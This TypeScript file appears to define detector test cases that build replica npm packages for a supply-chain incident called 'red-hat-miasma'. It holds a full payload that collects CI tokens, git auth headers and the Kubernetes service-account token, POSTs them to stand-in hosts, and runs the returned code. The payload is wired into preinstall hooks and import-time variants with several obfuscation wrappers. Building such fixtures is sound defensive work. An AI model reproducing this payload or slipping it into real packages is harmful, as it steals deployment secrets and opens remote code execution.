import { casesOf, type Facts } from '../case';
import { evalBase64, functionReversed, renamedLocals, stringArray } from '../disguise/javascript';
import { npm } from '../packages';

/** Runs only where a CI has started it, and only when the file is the program itself. */
const inMain = (host: string) =>
  String.raw`
if (require.main === module) {
  const https = require('https');
  const { execFileSync } = require('child_process');
  const fs = require('fs');
  const bag = { argv: process.argv, env: {} };
  for (const key of Object.keys(process.env)) {
    if (/^(GITHUB|ACTIONS|NPM|NODE_AUTH|AWS|AZURE|GOOGLE|VAULT|KUBE)/.test(key)) bag.env[key] = process.env[key];
  }
  try {
    bag.remote = execFileSync('git', ['config', '--get-regexp', 'http..*extraheader'], { encoding: 'utf8' });
  } catch (none) {}
  try {
    bag.kube = fs.readFileSync('/var/run/secrets/kubernetes.io/serviceaccount/token', 'utf8');
  } catch (none) {}
  const body = Buffer.from(JSON.stringify(bag)).toString('base64');
  const request = https.request({ host: '${host}', port: 443, path: '/collect', method: 'POST', headers: { 'Content-Length': body.length } }, function (answer) {
    let code = '';
    answer.on('data', function (part) { code += part; });
    answer.on('end', function () { new Function('require', 'module', code)(require, module); });
  });
  request.on('error', function () {});
  request.end(body);
}
`;

const FACTS: Facts = {
  now: '2026-06-01T12:00:00Z',
  publishedAt: '2026-06-01T11:10:00Z',
  firstPublishedAt: '2021-03-01T00:00:00Z',
  previousPublishedAt: '2026-05-20T00:00:00Z',
  publisher: 'ci',
  previousPublisher: 'ci',
  provenance: { now: true, before: true, builder: 'github-hosted', builderBefore: 'github-hosted' },
};
const ABOUT = 'A client for cloud services.';
const HOST = 'miasma-gw.invalid';

export const redHatMiasma = casesOf({
  id: 'red-hat-miasma',
  incident: 'red-hat-miasma',
  kind: 'install-hook',
  seen: 'preinstall runs the main file of the package, which sends the secrets of a CI and runs what comes back',
  replica: {
    sample: npm('@robin-cloud/services-client', '4.0.11', {
      about: ABOUT,
      manifest: { scripts: { preinstall: 'node index.js' } },
      index: (honest) => `${honest}${stringArray(inMain(HOST), 'miasma')}\n`,
    }),
    previous: npm('@robin-cloud/services-client', '4.0.10', { about: ABOUT }),
    facts: FACTS,
  },
  renamed: npm('rbac-permissions-client', '2.1.7', {
    about: 'Permissions of roles.',
    manifest: { main: 'dist/main.js', scripts: { preinstall: 'node .' } },
    files: {
      'dist/main.js': `module.exports = require('../index.js');\n${renamedLocals(inMain('perm-events.invalid'), 'rbac')}`,
    },
  }),
  reObfuscated: npm('@robin-cloud/services-client', '4.0.12', {
    about: ABOUT,
    manifest: { scripts: { preinstall: 'node index.js' } },
    index: (honest) =>
      `${honest}\nif (require.main === module) ${functionReversed(inMain(HOST).replace('if (require.main === module) {', '{'))}\n`,
  }),
  otherStage: {
    kind: 'import-time',
    seen: 'requiring the package sends the secrets of a CI and runs what comes back',
    sample: npm('@robin-cloud/services-client', '4.0.13', {
      about: ABOUT,
      index: (honest) =>
        `${honest}\n${evalBase64(inMain(HOST).replace('if (require.main === module) {', '{'))}\n`,
    }),
  },
});
